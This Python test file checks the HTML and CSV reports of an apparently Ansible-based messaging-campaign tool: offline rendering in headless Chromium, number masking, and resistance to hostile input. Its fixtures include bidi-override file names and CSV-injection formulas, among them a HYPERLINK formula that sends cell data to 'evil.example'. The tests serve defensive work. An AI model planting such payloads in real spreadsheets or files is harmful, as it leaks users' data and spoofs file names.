# -*- coding: utf-8 -*-
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The HTML report of a campaign, rendered by a real browser (headless Chromium, Debian's package):
the page shows who needs attention, what the campaign was, its totals, funnel, answers and table,
masks numbers when asked, shows hostile names as text, and asks the network for nothing. And
report.yml makes the page again from an export, a JSON report or an AWX artifact."""

import csv
import json
import os
import re
import shutil
import stat
import subprocess

import pytest

from conftest import CONTACTS, ROOT

SURVEY = 'Customer survey'
NEEDS_CHROMIUM = pytest.mark.skipif(
    not (os.environ.get('CHROMIUM') or shutil.which('chromium') or shutil.which('chromium-browser')),
    reason='headless Chromium is not installed (Debian: apt-get install chromium)')

CHROMIUM = os.environ.get('CHROMIUM') or shutil.which('chromium') or shutil.which('chromium-browser')
# Keep Chromium's own background traffic out of the net log: only the page's requests are left.
QUIET = ['--headless', '--no-sandbox', '--disable-gpu', '--hide-scrollbars', '--no-first-run',
         '--disable-background-networking', '--disable-component-update', '--disable-sync',
         '--disable-default-apps', '--disable-extensions', '--metrics-recording-only', '--no-pings']


def chromium(tmp_path, *args):
    profile = tmp_path / 'chromium-profile'
    return subprocess.run([CHROMIUM] + QUIET + ['--user-data-dir=%s' % profile] + list(args),
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=120, check=True)


def page_requests(netlog):
    """Every URL the page asked the network stack for. The browser's own background requests
    (update checks, clock) have no origin as initiator; a page's requests have the page's."""
    with open(netlog) as handle:
        text = handle.read().rstrip().rstrip(',')
    if not text.endswith('}'):  # Chromium may leave the events list open
        text += ']}'
    log = json.loads(text)
    start_job = log['constants']['logEventTypes']['URL_REQUEST_START_JOB']
    return sorted(set(e['params'].get('url', '') for e in log.get('events', [])
                      if e.get('type') == start_job and isinstance(e.get('params'), dict)
                      and e['params'].get('url') and e['params'].get('initiator') != 'not an origin'))


def render(tmp_path, page, *args):
    """Render ``page`` in headless Chromium with no name resolving anywhere; return the page's requests."""
    netlog = tmp_path / ('netlog-%s.json' % page.stem)
    chromium(tmp_path, '--host-resolver-rules=MAP * ~NOTFOUND', '--log-net-log=%s' % netlog, *(list(args) + [page.as_uri()]))
    return page_requests(netlog)


@pytest.mark.skipif(CHROMIUM is None, reason='headless Chromium is not installed (Debian: apt-get install chromium)')
def test_the_request_check_sees_what_a_page_loads(tmp_path):
    """The check below can fail: a page that loads an image from the network is caught."""
    page = tmp_path / 'leaky.html'
    page.write_text('<!DOCTYPE html><html><body><img src="http://203.0.113.9/pixel.png" alt=""></body></html>')
    assert render(tmp_path, page, '--screenshot=%s' % (tmp_path / 'leaky.png')) == ['http://203.0.113.9/pixel.png']


@pytest.mark.skipif(CHROMIUM is None, reason='headless Chromium is not installed (Debian: apt-get install chromium)')
def test_the_report_page_renders_offline_with_funnel_totals_answers_and_table(studio, tmp_path):
    studio.playbook('run_flow.yml', '-e', 'studio_campaign=report-page')
    for contact, answer in zip(CONTACTS[:3], ('5', '4', 'great')):
        studio.control.reply('Customer survey', contact, answer)
    page = tmp_path / 'report.html'
    studio.playbook('gather_facts.yml', '-e', 'studio_report_path=%s' % page)

    screenshot = tmp_path / 'report.png'
    requested = render(tmp_path, page, '--window-size=1200,2600', '--screenshot=%s' % screenshot)
    dom = chromium(tmp_path, '--dump-dom', page.as_uri()).stdout

    assert screenshot.read_bytes()[:8] == b'\x89PNG\r\n\x1a\n' and screenshot.stat().st_size > 20000
    shutil.copy(screenshot, os.environ.get('STUDIO_REPORT_SCREENSHOT', str(tmp_path / 'kept.png')))
    assert [u for u in requested if not u.startswith(('file:', 'data:'))] == []
    for section in ('id="totals"', 'id="funnel"', 'id="outcomes"', 'id="answers"', 'id="contacts"'):
        assert section in dom
    assert 'id="total-contacts">5<' in dom
    funnel = dom[dom.index('id="funnel"'):dom.index('id="outcomes"')]
    assert 'Trigger: 5 contacts; ask_rating: 5 contacts' in funnel
    answers = dom[dom.index('id="answers"'):dom.index('id="funnel"')]
    assert 'ask_rating' in answers and 'great: 1 replies' in answers
    assert all(contact in dom for contact in ('+15551230001', 'di-whatsapp', '+15551230005'))
    # a gather-only page has no card that only a run that triggers can fill
    assert 'Triggered now' not in dom and 'With an Execution' in dom
    assert 'id="about-campaign-key"><bdi>report-page</bdi><' in dom and 'id="about-flow-revision">1<' in dom


HOSTILE_FLOW = u'Survey \u202eevil'
HOSTILE_INVENTORY = u'''
studio_contacts:
  vars:
    studio_flow: "Survey \\u202eevil"
    studio_from: "+15005550006"
  hosts:
    "+15551230001":
      studio_parameters: {name: "Zed \\u202eevil"}
    "evil\\u202egnp.exe":
      studio_to: "+15551230002"
      studio_parameters: {name: "=1+1"}
    "+15551230003":
      studio_parameters: {name: Cy, product: "%s"}
    "+15551230004":
      studio_parameters: {name: Di}
    "+15551230005":
      studio_parameters: {name: Ed}
    typed:
      studio_to: 15550000107
''' % ('n' * 300)


@NEEDS_CHROMIUM
def test_a_masked_page_with_hostile_names_shows_attention_first_and_only_text(studio, tmp_path):
    """Failed, opted-out and waiting contacts at the top, the header, masked numbers; bidi controls,
    formulas and a 300-character name shown as inert text that stays inside the page."""
    with open(os.path.join(ROOT, 'tests', 'emulator', 'studio_emulator', 'flows', 'survey.json')) as handle:
        studio.control.add_flow(dict(json.load(handle), friendly_name=HOSTILE_FLOW))  # a Flow name from the account
    inventory = tmp_path / 'hostile.yml'
    inventory.write_text(HOSTILE_INVENTORY)
    page = tmp_path / 'hostile.html'
    options = ['-e', 'studio_campaign=hostile', '-e', 'studio_report_path=%s' % page, '-e', 'studio_report_mask=true',
               '-e', '{"studio_report_personal": ["name"], "studio_report_waiting_hours": 0}',
               '-e', '{"studio_report_fields": {"name": "flow.data.name", "product": "flow.data.product", '
               '"rating": "widgets.ask_rating.inbound.Body"}}']
    out = studio.playbook('run_flow.yml', *options, inventory=inventory, check=False)
    assert out.returncode != 0 and 'Contact typed: studio_to must be a string' in out.stdout  # one failed contact
    for number, answer in (('+15551230001', 'STOP'), ('+15551230002', '=HYPERLINK("http://evil.example/","x")'),
                           ('+15551230003', u'5\u202e1')):
        studio.control.reply(HOSTILE_FLOW, number, answer)
    studio.playbook('gather_facts.yml', *options, inventory=inventory, check=False)
    screenshot = tmp_path / 'hostile.png'
    requested = render(tmp_path, page, '--window-size=1200,2400', '--screenshot=%s' % screenshot)
    dom = chromium(tmp_path, '--dump-dom', page.as_uri()).stdout
    text = page.read_text()

    assert [u for u in requested if not u.startswith(('file:', 'data:'))] == []
    assert not re.search(u'[\u202a-\u202e\u2066-\u2069]', text) and 'evil&lt;U+202E&gt;gnp.exe' in dom
    assert not re.search(r'\+1555123000\d|1555123000\d', text)  # every number masked
    assert u'+1555\u2022\u2022\u20220001' in dom and 'Zed' not in text  # numbers masked, names hidden
    assert 'Campaign report: Survey &lt;U+202E&gt;evil' in dom  # the Flow's name as the account has it, shown
    attention = dom[dom.index('id="attention"'):dom.index('id="answers"')]
    assert dom.index('id="about"') < dom.index('id="totals"') < dom.index('id="attention"') < dom.index('id="answers"')
    assert '1 failed' in attention and 'studio_to must be a string' in attention
    assert '1 opted out' in attention and '>STOP<' in attention
    assert re.search(r'\d+ still waiting after more than 0 s', attention)
    assert re.search(r'class="alert"><dt>Failed</dt><dd id="total-failed">1<', dom)
    answers = dom[dom.index('id="answers"'):dom.index('id="funnel"')]
    assert 'STOP' not in answers.split('</h3>', 1)[1].split('as a table')[0]  # the opt-out is no answer
    assert '=HYPERLINK(' in answers and '<a ' not in dom.split('<main>')[1]  # text, not a link
    assert 'id="about-campaign-key"><bdi>hostile</bdi><' in dom
    # the 300-character name is cut in its cell, whole in the tooltip
    assert '<bdi title="%s">%s\u2026</bdi>' % ('n' * 300, 'n' * 79) in text and '<bdi>%s</bdi>' % ('n' * 300) not in text
    assert screenshot.read_bytes()[:8] == b'\x89PNG\r\n\x1a\n'
    shutil.copy(screenshot, os.environ.get('STUDIO_REPORT_HOSTILE_SCREENSHOT', str(tmp_path / 'kept-hostile.png')))


def test_report_yml_makes_the_page_from_an_export_a_json_report_and_an_artifact(studio, tmp_path):
    """After the fact: the page from a JSON Lines export (export_executions.yml), the same rows from
    the JSON report and the AWX artifact; masked, in a time zone, with operator-ended contacts apart."""
    studio.playbook('run_flow.yml', '-e', 'studio_campaign=nov-survey')
    for number, answer in (('+15551230001', '5'), ('+15551230002', 'five'), ('+15551230003', 'stop')):
        studio.control.reply(SURVEY, number, answer)
    studio.playbook('end_active.yml')  # the two who did not answer: ended by the operator
    export = tmp_path / 'survey.jsonl'
    studio.playbook('export_executions.yml', '-e', json.dumps({'studio_flow': SURVEY, 'studio_export_path': str(export)}))
    assert len(export.read_text().splitlines()) == 5

    work = tmp_path / 'work'
    work.mkdir()
    out = studio.playbook('report.yml', '-e', 'studio_report_from=../survey.jsonl', '-e', 'studio_report_path=page.html',
                          '-e', 'studio_report_timezone=Asia/Tokyo', '-e', 'studio_report_mask=true',
                          '-e', 'studio_campaign=nov-survey', cwd=str(work))
    page = work / 'page.html'
    assert 'Report written to %s' % page in out.stdout
    assert stat.S_IMODE(page.stat().st_mode) == 0o600
    html = page.read_text()
    assert 'from a JSON Lines export (5 Executions read)' in html and 'Asia/Tokyo (every time on this page)' in html
    assert 'nov-survey' in html and '<dt>Triggered now' not in html and '<dt>Failed' not in html
    assert '1 opted out' in html and not re.search(r'1555123000\d', html)
    assert 'ended by the operator at ask_rating: 2 contacts' in html
    assert re.search(r'<desc id="answers-0-desc">5: 2 replies</desc>', html)  # "five" is 5; "stop" is no answer
    # the JSON report of gather_facts.yml and the AWX artifact make the same rows
    report = tmp_path / 'report.json'
    studio.playbook('gather_facts.yml', '-e', 'studio_report_path=%s' % report)
    artifact = tmp_path / 'artifact.json'
    artifact.write_text(json.dumps({'studio_report': json.loads(report.read_text())}))
    for source in (report, artifact):
        table = tmp_path / (source.stem + '.csv')
        studio.playbook('report.yml', '-e', 'studio_report_from=%s' % source, '-e', 'studio_report_path=%s' % table)
        rows = dict((row['contact'], row) for row in csv.DictReader(table.open(newline='')))
        assert sorted(rows) == sorted(["'+15551230001", "'+15551230002", "'+15551230003", 'di-whatsapp',
                                       "'+15551230005"])
        assert rows["'+15551230001"]['outcome'] == 'ended after thank_you'  # "five" took the Flow to retry_prompt
        assert rows['di-whatsapp']['outcome'] == 'ended by the operator at ask_rating'
    # bad input is refused in words, nothing written
    missing = studio.playbook('report.yml', '-e', 'studio_report_from=%s' % (tmp_path / 'nope.jsonl'), '-e',
                              'studio_report_path=%s' % (tmp_path / 'x.html'), check=False)
    assert missing.returncode != 0 and 'studio_report_from (a JSON Lines export' in missing.stdout
    bad_zone = studio.playbook('report.yml', '-e', 'studio_report_from=%s' % export, '-e',
                               'studio_report_path=%s' % (tmp_path / 'x.html'), '-e', 'studio_report_timezone=Mars/Base',
                               check=False)
    assert bad_zone.returncode != 0 and 'studio_report_timezone must be an IANA time zone name' in bad_zone.stdout
    assert not (tmp_path / 'x.html').exists()


SOFFICE = shutil.which('soffice') or shutil.which('libreoffice')
FORMULAS = {'a': '=HYPERLINK("http://evil.example/?d="&B3,"Click me")', 'b': '=1+1', 'c': '+1+2', 'd': '-2+3',
            'e': '@SUM(4+5)', 'f': '\t=3+4'}


@pytest.mark.skipif(SOFFICE is None, reason='LibreOffice is not installed (Debian: apt-get install libreoffice-calc)')
def test_a_spreadsheet_opens_the_csv_as_text_with_one_row_per_contact(studio, tmp_path):
    """OWASP CSV injection, checked in LibreOffice Calc: no cell of report.csv becomes a formula or a
    link, a carriage return inside a reply does not split its row, and numbers keep their +."""
    inventory = tmp_path / 'formulas.yml'
    inventory.write_text(json.dumps({'studio_contacts': {
        'vars': {'studio_flow': SURVEY, 'studio_from': '+15005550006'},
        'hosts': {'+15551230001': {'studio_parameters': FORMULAS}, '=1+1': {'studio_to': '+15551230002'},
                  '+15551230003': {}}}}))
    fields = dict((key, 'flow.data.%s' % key) for key in FORMULAS)
    fields['rating'] = 'widgets.ask_rating.inbound.Body'
    studio.playbook('run_flow.yml', inventory=inventory)
    studio.control.reply(SURVEY, '+15551230002', '\r=5+6')
    studio.control.reply(SURVEY, '+15551230003', 'a\rb\r\nc')
    report = tmp_path / 'report.csv'
    studio.playbook('gather_facts.yml', '-e', json.dumps({'studio_report_path': str(report),
                                                          'studio_report_fields': fields}), inventory=inventory)
    raw = report.read_bytes()
    assert raw.endswith(b'"\r\n') and raw.startswith(b'"contact","to",')
    rows = list(csv.DictReader(report.open(newline='')))
    assert len(rows) == 3  # Python's csv reader: one row per contact, no phantom row
    by_contact = dict((row['contact'], row) for row in rows)
    assert by_contact["'+15551230001"]['a'] == "'" + FORMULAS['a'] and by_contact["'=1+1"]['to'] == "'+15551230002"
    assert by_contact["'=1+1"]['rating'] == "'\r=5+6" and by_contact["'+15551230003"]['rating'] == 'a\rb\r\nc'

    out = tmp_path / 'calc'
    subprocess.run([SOFFICE, '-env:UserInstallation=file://%s' % (tmp_path / 'lo-profile'), '--headless',
                    '--infilter=CSV:44,34,76,1', '--convert-to', 'fods', '--outdir', str(out), str(report)],
                   stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=180, check=True)
    sheet = (out / 'report.fods').read_text()
    assert 'table:formula' not in sheet and '<text:a' not in sheet  # nothing computed, no live link
    table = sheet[sheet.index('<table:table '):sheet.index('</table:table>')]
    assert table.count('<table:table-row') == 4  # the header and three contacts: no row split
    for text in ('+15551230001', '=HYPERLINK(', '=1+1', '+1+2', '-2+3', '@SUM(4+5)', '=5+6'):
        assert text in sheet.replace('&quot;', '"').replace('&amp;', '&'), text
    # every phone number is text with its + (LibreOffice shows the leading ' too), never a number
    assert not re.search(r'office:value="1555123000\d"', sheet) and '&apos;+15551230001' in sheet
